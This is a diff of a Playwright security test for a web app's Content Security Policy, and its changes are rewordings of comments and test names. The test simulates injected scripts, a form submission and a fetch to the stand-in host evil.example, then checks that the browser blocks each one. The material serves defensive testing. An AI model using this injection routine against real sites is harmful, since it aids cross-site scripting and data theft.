@@ -2,7 +2,7 @@ import type { Page } from '@playwright/test';
 import { expect, test } from '../harness/browser.ts';
 import { stripeUrl } from '../harness/stripe.ts';
 
-/** What another site would put into a page, and by which rule a browser refuses it. */
+/** What another site would inject into a page, and the policy by which a browser refuses it. */
 const INJECTED = {
   'script-src-elem': 'an inline script, one of another site, an import',
   'script-src-attr': 'a handler in the markup',
@@ -17,7 +17,7 @@ const INJECTED = {
 
 const EVIL = 'https://evil.example';
 
-/** One page of each kind: who opens it, and what is on it. */
+/** One page of each kind, with its reader and its content. */
 const VISITORS = [
   '/',
   '/auth',
@@ -51,7 +51,7 @@ async function watched(page: Page): Promise<string[]> {
   return violations;
 }
 
-/** Does what injected markup would do. Returns what of it had an effect. */
+/** Does what injected markup would do. Returns the parts that had an effect. */
 function inject(page: Page): Promise<string[]> {
   return page.evaluate(async (evil) => {
     const put = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, given: Partial<HTMLElementTagNameMap[Tag]>) =>
@@ -74,7 +74,7 @@ function inject(page: Page): Promise<string[]> {
     document.body.append(form);
     form.submit();
     await fetch(`${evil}/call`).catch(() => {});
-    // Later: what is evaluated for a test itself may use eval whatever the policy says.
+    // Later: code evaluated for a test itself may use eval under any policy.
     const evalTried = new Promise<void>((done) => {
       addEventListener('securitypolicyviolation', ({ blockedURI }) => blockedURI === 'eval' && done());
       setTimeout(() => {
@@ -118,8 +118,8 @@ const HEADERS = {
   'strict-transport-security': 'max-age=31536000; includeSubDomains',
 };
 
-test.describe('nothing that is injected gets anywhere', () => {
-  // What is refused is said in the console.
+test.describe('injected code has no effect', () => {
+  // The console reports each refusal.
   test.use({
     expectedErrors: [/Content Security Policy|Content-Security-Policy|evil\.example|Failed to load resource|eval/],
   });
@@ -131,7 +131,7 @@ test.describe('a frame', () => {
   test.use({ expectedErrors: [/./] });
 
   test('of another site shows no page', async ({ page, baseURL }) => {
-    // Another site of this machine: what is far away may not frame this machine at all.
+    // Another site on this machine, since a remote one may not frame this machine at all.
     await page.goto(`${stripeUrl()}/stand-in/`);
     await page.evaluate((src) => {
       document.body.append(Object.assign(document.createElement('iframe'), { src }));
@@ -141,7 +141,7 @@ test.describe('a frame', () => {
   });
 });
 
-test('the payment provider is asked by the payment screen alone', async ({ page, member: _ }) => {
+test('only the payment screen calls the payment provider', async ({ page, member: _ }) => {
   const asked = new Set<string>();
   page.on('request', (request) => {
     if (request.url().startsWith(stripeUrl())) asked.add(new URL(page.url()).pathname);
